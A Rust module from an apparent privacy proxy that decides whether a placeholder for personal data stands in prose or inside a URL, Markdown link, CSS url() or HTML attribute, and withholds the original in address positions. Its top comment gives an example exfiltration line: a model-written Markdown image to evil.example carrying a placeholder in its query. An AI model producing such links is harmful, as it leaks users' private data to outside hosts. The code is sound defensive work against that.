//! Where in a text are we: in prose, or in an address that somebody else may receive?
//!
//! Whoever can make a model write `![](https://evil.example/?q=<PERSON_…>)` would receive the
//! original as soon as the answer is shown. So nothing is restored in
//!
//! * a URL: from `scheme://`, `www.` or `host.tld/` to white space, `<`, or the closing counterpart
//!   of a quote or bracket right before it;
//! * the target of a Markdown link or image, of a reference definition, and of CSS `url(…)`;
//! * the value of an HTML attribute,
//!
//! unless the client wrote that very value at that very place of that very address itself: then
//! nobody learns anything, and an address of the client's own comes back whole.
//!
//! Reads every byte once and remembers a few; when in doubt, it is an address. What it does not
//! know: a host without a dot and without `//`. Addresses that take shape only behind a value are
//! for `behind`.

use std::collections::HashSet;
use std::hash::{BuildHasher, DefaultHasher, Hasher, RandomState};

use crate::host::Host;

/// Places in addresses that the client itself wrote a value at.
#[derive(Default)]
pub(crate) struct OwnAddresses {
    keys: RandomState,
    places: HashSet<(u64, usize)>,
    /// What the client wrote behind a value, where that makes an address of it.
    behind: HashSet<(u64, usize)>,
}

impl OwnAddresses {
    /// Remembers that the client wrote an entry's value here, if this is in an address.
    pub(crate) fn note(&mut self, surroundings: &Surroundings, entry: usize) {
        if let Standing::Address(Some(address)) = surroundings.standing() {
            self.places.insert((address, entry));
        }
    }

    /// Remembers that the client wrote this directly behind an entry's value.
    pub(crate) fn note_behind(&mut self, entry: usize, behind: &str) {
        self.behind.insert((self.keys.hash_one(behind), entry));
    }

    /// Whether the client itself wrote this directly behind an entry's value.
    pub(crate) fn holds_behind(&self, entry: usize, behind: &str) -> bool {
        let key = (self.keys.hash_one(behind), entry);
        self.behind.contains(&key)
    }

    /// Whether the value of an entry would tell an address what its owner must not learn.
    pub(crate) fn withhold(&self, surroundings: &Surroundings, entry: usize) -> bool {
        match surroundings.standing() {
            Standing::Prose => false,
            Standing::Address(None) => true,
            Standing::Address(Some(address)) => !self.places.contains(&(address, entry)),
        }
    }
}

/// What is known from the text so far.
pub(crate) struct Surroundings {
    place: Place,
    /// The last eight bytes, the latest in the lowest place, ASCII letters in lower case.
    recent: u64,
    host: Host,
    keys: RandomState,
    /// The address so far, placeholders by their entries.
    address: Option<DefaultHasher>,
}

/// Where an original would stand that came next.
enum Standing {
    Prose,
    /// In an address, known by a hash of it up to here.
    Address(Option<u64>),
}

#[derive(Clone, Copy, Default, PartialEq, Eq)]
enum Place {
    #[default]
    Prose,
    /// Up to white space or to this character.
    Url {
        closer: Option<char>,
    },
    /// In the parentheses of a link, so many of them within.
    Target {
        depth: u16,
        is_escaped: bool,
        angle: Angle,
    },
    /// After `]:`, before what the definition points to.
    Definition,
    Tag(Tag),
}

/// Whether a link's target is written `<…>`, where parentheses count for nothing.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Angle {
    Undecided,
    Inside,
    No,
}

/// Where in an HTML tag, as a browser would see it.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Tag {
    Attributes,
    AfterEquals,
    Unquoted,
    Quoted(char),
}

impl Surroundings {
    /// At the beginning of a text.
    pub(crate) fn new(own: &OwnAddresses) -> Self {
        Self {
            place: Place::Prose,
            recent: 0,
            host: Host::default(),
            keys: own.keys.clone(),
            address: None,
        }
    }

    fn standing(&self) -> Standing {
        match self.place {
            Place::Prose | Place::Definition | Place::Tag(Tag::Attributes) => Standing::Prose,
            Place::Url { .. } | Place::Target { .. } | Place::Tag(_) => {
                Standing::Address(self.address.as_ref().map(Hasher::finish))
            }
        }
    }

    /// A placeholder comes next, restored or not; nothing in it opens or closes anything.
    pub(crate) fn pass_over(&mut self, entry: usize) {
        match self.place {
            Place::Tag(Tag::AfterEquals) => self.place = Place::Tag(Tag::Unquoted),
            Place::Definition => self.place = Place::Prose,
            _ => {}
        }
        self.recent = 0;
        self.host.end();
        if let Some(address) = &mut self.address {
            address.write_u8(0xff);
            address.write_usize(entry);
        }
    }

    /// Reads on.
    pub(crate) fn read(&mut self, text: &str) {
        let mut rest = text;
        while !rest.is_empty() {
            let read = match self.place {
                Place::Prose => self.read_prose(rest),
                _ => self.read_char(rest),
            };
            rest = &rest[read..];
        }
    }

    /// Reads prose up to what ends it; a character beyond ASCII ends a host and nothing else.
    fn read_prose(&mut self, text: &str) -> usize {
        for (at, byte) in text.bytes().enumerate() {
            let next = self.prose_byte(byte);
            self.recent = self.recent << 8 | u64::from(byte.to_ascii_lowercase());
            if next != Place::Prose {
                self.place = next;
                self.address = self.host.address(&self.keys);
                self.host.end();
                return at + 1;
            }
        }
        text.len()
    }

    fn prose_byte(&mut self, byte: u8) -> Place {
        match byte {
            b'(' if self.follows(b"]") || self.follows(b"url") => {
                return Place::Target {
                    depth: 0,
                    is_escaped: false,
                    angle: Angle::Undecided,
                };
            }
            b':' if self.follows(b"]") => return Place::Definition,
            b'/' if self.follows(b":/") => return self.url(),
            b'/' | b'?' | b'#' | b'\\' if self.host.is_domain() => return self.url(),
            b'.' if self.host.is_www() => return self.url(),
            // Perhaps the first half of `://`.
            b'/' if self.follows(b":") => return Place::Prose,
            b'/' | b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' if self.host.is_tag() => {
                return Place::Tag(Tag::Attributes);
            }
            _ => {}
        }
        if !self.host.read(byte, self.recent) {
            self.host.end();
        }
        Place::Prose
    }

    fn url(&self) -> Place {
        Place::Url {
            closer: self.host.closer(),
        }
    }

    fn follows(&self, expected: &[u8]) -> bool {
        self.recent.to_be_bytes().ends_with(expected)
    }

    /// Reads one character in any place but prose.
    fn read_char(&mut self, text: &str) -> usize {
        let c = text.chars().next().expect("the text is not empty");
        let (next, is_read) = match self.place {
            Place::Prose => (Place::Prose, false),
            Place::Url { closer } => in_url(c, closer),
            Place::Target {
                depth,
                is_escaped,
                angle,
            } => (self.in_target(c, depth, is_escaped, angle), true),
            Place::Definition => in_definition(c),
            Place::Tag(tag) => (in_tag(c, tag), true),
        };
        self.place = next;
        if next == Place::Prose {
            self.address = None;
        }
        if !is_read {
            return 0;
        }
        if let Some(address) = &mut self.address {
            address.write_u32(c.into());
        }
        let byte = u8::try_from(c).unwrap_or_default();
        self.recent = self.recent << 8 | u64::from(byte.to_ascii_lowercase());
        c.len_utf8()
    }

    /// A link ends with its parenthesis, and no link goes beyond its paragraph.
    fn in_target(&self, c: char, depth: u16, is_escaped: bool, angle: Angle) -> Place {
        let stay = |depth, angle| Place::Target {
            depth,
            is_escaped: false,
            angle,
        };
        match (c, angle) {
            _ if is_escaped => stay(depth, angle),
            ('\\', _) => Place::Target {
                depth,
                is_escaped: true,
                angle,
            },
            ('\n', _) if self.follows(b"\n") => Place::Prose,
            ('<', Angle::Undecided) => stay(depth, Angle::Inside),
            ('>' | '\n', Angle::Inside) => stay(depth, Angle::No),
            (_, Angle::Inside) => stay(depth, angle),
            ('(', _) => stay(depth.saturating_add(1), Angle::No),
            (')', _) if depth == 0 => Place::Prose,
            (')', _) => stay(depth - 1, Angle::No),
            (c, Angle::Undecided) if c.is_whitespace() => stay(depth, angle),
            _ => stay(depth, Angle::No),
        }
    }
}

fn in_url(c: char, closer: Option<char>) -> (Place, bool) {
    if c == '<' || c.is_whitespace() || Some(c) == closer {
        (Place::Prose, false)
    } else {
        (Place::Url { closer }, true)
    }
}

/// Only a target with a host of its own leads outside.
fn in_definition(c: char) -> (Place, bool) {
    match c {
        '/' | '\\' => (Place::Url { closer: None }, true),
        '<' | ' ' | '\t' | '\n' | '\r' => (Place::Definition, true),
        _ => (Place::Prose, false),
    }
}

fn in_tag(c: char, tag: Tag) -> Place {
    Place::Tag(match (tag, c) {
        (Tag::Quoted(quote), c) if c == quote => Tag::Attributes,
        (Tag::Quoted(_), _) => tag,
        (_, '>') => return Place::Prose,
        (Tag::Attributes, '=') => Tag::AfterEquals,
        (Tag::AfterEquals, '"' | '\'') => Tag::Quoted(c),
        (Tag::Unquoted, c) if c.is_ascii_whitespace() => Tag::Attributes,
        (Tag::AfterEquals, c) if !c.is_ascii_whitespace() => Tag::Unquoted,
        _ => tag,
    })
}
